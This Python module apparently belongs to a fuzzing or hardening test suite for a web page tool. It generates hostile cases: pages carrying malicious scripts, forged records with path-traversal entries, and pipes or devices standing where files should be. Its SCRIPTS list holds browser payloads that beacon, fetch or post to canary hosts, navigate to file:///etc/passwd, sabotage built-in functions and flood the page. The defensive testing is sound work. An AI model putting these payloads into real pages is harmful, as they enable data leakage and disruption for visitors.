"""Pages in browsers, the records of what was measured and copied, and things that are no files."""

from __future__ import annotations

import json
import random
import subprocess
import sys
import tempfile
from functools import cache
from pathlib import Path

from bench.hostile.case import Case, brief, mutated
from bench.hostile.keeping import ODD_RECORDS
from bench.hostile.media import picture

HERO = "<style>.a{height:90px;background:url(a.jpg) 50%/cover}</style><h1 class=a>Flour</h1>"

SCRIPTS = (
    "for(const h of ['@DOOR@','@FAR@']){fetch('http://'+h+'/x').catch(()=>0);"
    "new WebSocket('ws://'+h);navigator.sendBeacon('http://'+h,'x');open('http://'+h);"
    "new Image().src='https://'+h+'/x.png';new EventSource('http://'+h)}",
    "const c=new RTCPeerConnection({iceServers:[{urls:['stun:@DOOR@','stun:@FAR@']}]});"
    "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))",
    "setInterval(()=>location.reload(),50)", "setInterval(()=>alert(1),20);confirm(1);prompt(1)",
    "location='http://@FAR@/'", "location='b.html'", "history.pushState(0,'','/else')",
    "window.getComputedStyle=()=>null;Element.prototype.getBoundingClientRect=()=>null",
    "document.querySelectorAll=()=>{throw 1};Object.prototype.toJSON=()=>{throw 1}",
    "requestAnimationFrame=()=>0;Promise.prototype.then=()=>0;JSON.stringify=()=>'['",
    "document.documentElement.remove()", "document.write('<iframe src=http://@FAR@>')",
    "for(let i=0;i<999;i++)open('b.html?'+i)", "onresize=()=>document.body.innerHTML=''",
    "setInterval(()=>document.body.append(document.body.firstChild.cloneNode(true)),1)",
    "const f=document.createElement('form');f.action='http://@FAR@/';f.method='post';"
    "document.documentElement.append(f);f.submit()",
    "navigator.serviceWorker?.register('a.js');new Worker('a.js')",
    "import('http://@DOOR@/x.js');document.head.innerHTML+='<link rel=prefetch href=//@DOOR@/>'",
    "location='mailto:a@b';location='file:///etc/passwd';location='data:text/html,x'",
)  # fmt: skip
"""What a page may try; the doors are canaries, on another port and on another address."""


def live_page(by: random.Random) -> Case:
    """A page in a real browser, with one to three scripts that mean harm."""
    script = ""
    for one in by.sample(SCRIPTS, by.choice((1, 1, 2, 3))):
        when = by.choice(("{}", "addEventListener('load',()=>{{{}}})", "setTimeout(()=>{{{}}},99)"))
        script += f"<script>try{{{when.format(one)}}}catch(e){{}}</script>"
    page = f"<!doctype html><title>x</title>{HERO}{script}".encode()
    files = {"page.html": page, "b.html": b"<p>b", "a.js": b"", "a.jpg": picture("JPEG")}
    browser = by.choice(("chromium", "firefox"))
    calls = (
        ["begin", "page.html", "new/brief.toml", "--browser", browser],
        ["inspect", "page.html", "--browser", browser, "--screen", "390x844@3"],
    )
    return Case("live", files, by.choice(calls), listens=True)


@cache
def inserted() -> dict[str, bytes]:
    """A page with a brief, built, and put into a copy."""
    with tempfile.TemporaryDirectory() as place:
        folder = Path(place)
        (folder / "page.html").write_text(f"<!doctype html><title>x</title>{HERO}", "utf-8")
        (folder / "a.jpg").write_bytes(picture("JPEG"))
        for call in (
            ["begin", "page.html", "brief.toml"],
            ["build"],
            ["insert", "page.html", "--into", "new/copy", "--browser", "none"],
        ):
            command = [sys.executable, "-m", "brightcanvas", *call]
            subprocess.run(command, cwd=folder, check=False, capture_output=True)
        files = (one for one in folder.rglob("*") if one.is_file())
        found = {one.relative_to(folder).as_posix(): one.read_bytes() for one in files}
    if "new/copy/page.html" not in found:
        found["brief.toml"] = brief("a.jpg")
    return found


def forged_records(by: random.Random) -> Case:
    """Measured boxes, the note of copies, and the copy itself, as somebody else wants them."""
    files = dict(inserted())
    own = [name for name in files if name.endswith((".json", ".toml"))]
    for name in by.sample(own, min(len(own), by.choice((1, 2)))):
        files[name] = mutated(files[name], by)
    if by.random() < 0.5:
        forged = {"new/copy": {"page.html": "0" * 64, "../../brief.toml": "0" * 64}, "..": {}}
        odd = by.choice((*ODD_RECORDS, json.dumps(forged).encode()))
        files[by.choice((".bright-canvas/copies.json", "boxes.json"))] = odd
    if by.random() < 0.5:
        copied = by.choice([name for name in files if name.startswith("new/")] or ["new/mine.txt"])
        files[copied] = files.get(copied, b"") + b"mine"
    into = by.choice(("new/copy", "new/copy", "new/none/../copy", ".", "new/../new/other", "a.jpg"))
    insert = ["insert", "page.html", "--into", into, "--browser", "none"]
    return Case(
        "forged", files, by.choice((insert, insert, ["plan"], ["build"], ["hits", "page.html"]))
    )


def driven(by: random.Random) -> Case:
    """What takes more than one call; see ``bench.hostile.drivers``."""
    files = {
        "a.png": picture("PNG", "RGB"), "brief.toml": b"# mine\n" + brief("a.png"),
        "page.html": HERO.encode(),
    }  # fmt: skip
    files["brief.toml"] = files["brief.toml"].replace(b"source", b'name = "a"\nsource')
    way = by.choice(("pestered", "watched", "called"))
    call = [way, str(by.random())]
    return Case(
        f"driven {way}", files, call, driver="bench.hostile.drivers", statuses=frozenset({0})
    )


def no_file(by: random.Random) -> Case:
    """A pipe, a device, a folder, a link or a file without end where a file should be."""
    page = b"<!doctype html><link rel=stylesheet href=page.css>" + HERO.encode()
    files = {
        "page.html": page, "page.css": b"p{}", "a.jpg": picture("JPEG"), "lines.txt": b"link: x",
        "brief.toml": brief("a.jpg"), ".bright-canvas/outputs.json": b"{}",
        "published/backdrops.css": b"",
    }  # fmt: skip
    what = by.choice(("pipe", "zero", "folder", "loop", "huge", "random"))
    calls = (
        ["inspect", "page.html"], ["begin", "page.html", "new/brief.toml", "--browser", "none"],
        ["build"], ["plan"], ["hits", "page.html"], ["compress", "a.jpg"],
        ["rehearse", "page.html", "--headers", "lines.txt", "--into", "new/r"],
        ["insert", "page.html", "--into", "new/copy", "--browser", "none"],
    )  # fmt: skip
    return Case("no file", files, by.choice(calls), odd={by.choice(list(files)): what})
